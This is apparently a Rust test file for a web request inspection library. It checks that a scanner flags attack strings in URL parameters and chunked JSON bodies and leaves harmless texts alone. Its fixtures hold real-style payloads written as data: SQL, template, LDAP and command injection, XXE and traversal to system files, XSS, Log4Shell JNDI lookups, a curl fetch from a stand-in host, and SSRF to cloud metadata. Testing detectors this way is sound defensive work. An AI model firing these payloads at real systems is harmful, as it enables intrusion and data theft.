//! Attacks by class: what must be found and what must not, in a parameter, a header, and a JSON body.

use weir_inspect::detector::{Category, DetectorSet};
use weir_inspect::scan::{Catalog, ScanState, Scanner};

/// A detector, and texts that it must report.
const ATTACKS: &[(&str, &[&str])] = &[
    (
        "template-injection",
        &[
            "{{8*6}}",
            "${9*9}",
            "<%= 3*4 %>",
            "{{self.__init__.__globals__}}",
            "{% include '/etc/hostname' %}",
            "*{T(java.lang.Runtime).getRuntime()}",
            "#set($a='')$a.class.forName('x')",
        ],
    ),
    (
        "xxe",
        &[
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b;</a>",
            "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/hosts\"/></x>",
        ],
    ),
    (
        "deserialisation",
        &[
            "rO0ABXNyABNqYXZhLnV0aWwuTGlzdA",
            "O:5:\"Order\":1:{s:2:\"id\";i:3;}",
            "!!python/object/apply:os.system ['id']",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "class.module.classLoader.urls[0]=x",
        ],
    ),
    (
        "nosql-injection",
        &["{\"pass\":{\"$ne\":\"\"}}", "{\"$where\":\"sleep(900)\"}", "a'; return true; var b='"],
    ),
    ("ldap-injection", &["*)(uid=*))(|(uid=*", "x)(|(objectClass=*", "(&(cn=a)(userPassword=*))"]),
    ("graphql-abuse", &["query { __schema { types { name } } }"]),
    ("protocol-abuse", &["a\r\nSet-Cookie: b=c", "x\nGET /admin HTTP/1.1\r\nHost: b"]),
    ("path-traversal", &["..%2f..%2fetc%2fpasswd", "/proc/self/environ", "....//....//etc/shadow"]),
    (
        "command-injection",
        &[
            "a;cat /etc/hostname",
            "$(curl http://a.example/b)",
            "require('child_process').exec('id')",
            "if not exist c:\\a echo b",
            "constructor.prototype.a=1",
            "<?php passthru('id');",
        ],
    ),
    (
        "xss",
        &[
            "<img src=a onerror=alert(2)>",
            "\" autofocus onfocus=\"confirm(3)",
            "<style>@import'//a.b'",
        ],
    ),
    ("log4shell", &["${jndi:ldap://a.example/b}", "${${lower:j}ndi:rmi://a/b}"]),
    (
        "sql-injection",
        &[
            "5' or '8'='8",
            "2 union all select null,null,version()--",
            "1;waitfor delay '0:0:9'--",
            "1) and (select 3 from (select(sleep(4)))x",
            "id'||pg_sleep(4)--",
        ],
    ),
];

/// Texts in which no attack may be found.
const HARMLESS: &[&str] = &[
    "Sean O'Connor & Sons",
    "select the best table from our union station store",
    "36\" x 48\" frame or 12' lamp",
    "Dear {{first_name}}, your order {{order_id}} is on its way",
    "Is 5 > 3? I think so; thanks -- Ann",
    "SELECT is a keyword, DROP by anytime",
    "https://shop.example/search?q=a&sort=-price&page=2",
    "price ge 10 and startswith(name,'Milk')",
    "# Title\n\n* item `code` **bold** [link](https://a.example/b)\n",
    "f(x) = 3*x + (a-b)/2",
    "query GetUser($id: ID!) { user(id: $id) { id name } }",
    "<p>Hello <b>Ann</b>, see you at <i>noon</i></p>",
    "status:open AND (label:bug OR label:\"help wanted\")",
    "rock 'n' roll; blues & jazz | soul",
    "C:\\Users\\ann\\Documents\\cat.jpg",
    "let's sleep on it (8 hours)",
];

struct All {
    catalog: Catalog,
    scanner: Scanner,
    attacks: DetectorSet,
}

fn all() -> All {
    let catalog = Catalog::builtin();
    let mut attacks = DetectorSet::EMPTY;
    catalog.iter().filter(|d| d.category == Category::Attacks).for_each(|d| attacks.insert(d.id));
    let scanner = Scanner::new(&catalog, &attacks);
    All { catalog, scanner, attacks }
}

impl All {
    /// The names of the detectors that report a text as a parameter.
    fn parameter(&self, text: &str) -> Vec<&str> {
        let encode = |b: u8| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(b).to_string(),
            _ => format!("%{b:02x}"),
        };
        let target = format!("/a?b={}", text.bytes().map(encode).collect::<String>());
        let mut found = Vec::new();
        self.scanner.scan_url(target.as_bytes(), text.as_bytes(), &self.attacks, &mut found);
        found.iter().map(|f| self.catalog.get(f.detector).unwrap().name.as_str()).collect()
    }

    /// The same in a string of a JSON body that comes in pieces.
    fn body(&self, text: &str, piece: usize) -> Vec<&str> {
        let filler: Vec<String> = (0..40).map(|n| format!("item {n}")).collect();
        let body = serde_json::json!({ "items": filler, "text": text, "more": filler }).to_string();
        let (mut state, mut found) = (ScanState::default(), Vec::new());
        state.set_attacks(&self.attacks);
        for piece in body.as_bytes().chunks(piece) {
            self.scanner.scan(&mut state, piece, false, &DetectorSet::EMPTY, &mut found);
        }
        self.scanner.scan(&mut state, b"", true, &DetectorSet::EMPTY, &mut found);
        found.iter().map(|f| self.catalog.get(f.detector).unwrap().name.as_str()).collect()
    }
}

#[test]
fn attacks_of_each_class_are_found() {
    let all = all();
    for (detector, texts) in ATTACKS {
        for text in *texts {
            let found = all.parameter(text);
            assert!(found.contains(detector), "{detector}: {text}: {found:?}");
            assert!(found.contains(&"attack-model"), "{text}: {found:?}");
        }
    }
}

#[test]
fn attacks_are_found_in_json() {
    let all = all();
    // What needs the structure of a document or line ends is another thing inside of a string.
    let inside = |d: &str| !["nosql-injection", "protocol-abuse", "graphql-abuse"].contains(&d);
    for (detector, texts) in ATTACKS.iter().filter(|(detector, _)| inside(detector)) {
        for text in *texts {
            let found = all.body(text, 100_000);
            assert!(found.contains(detector), "{detector}: {text}: {found:?}");
        }
    }
}

#[test]
fn harmless_texts_pass_in_packets_of_any_size() {
    let all = all();
    for text in HARMLESS {
        assert_eq!(all.parameter(text), [""; 0], "{text}");
        for piece in [100_000, 1448, 300] {
            assert_eq!(all.body(text, piece), [""; 0], "{text} in pieces of {piece}");
        }
    }
}

#[test]
fn addresses_only_count_as_values() {
    let all = all();
    for url in
        ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "gopher://a:70/_x"]
    {
        assert!(all.parameter(url).contains(&"ssrf"), "{url}");
    }
    let mut found = Vec::new();
    all.scanner.scan_whole(b"http://localhost:8080/shop/view.jsp", &all.attacks, &mut found);
    assert!(found.is_empty(), "the site's own address in Referer");
    for (agent, expected) in [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", true),
        ("Mozilla/5.0 (Nikto/2.1.6) (Evasions:None)", true),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", false),
    ] {
        found.clear();
        all.scanner.scan_whole(agent.as_bytes(), &all.attacks, &mut found);
        assert_eq!(!found.is_empty(), expected, "{agent}");
    }
}
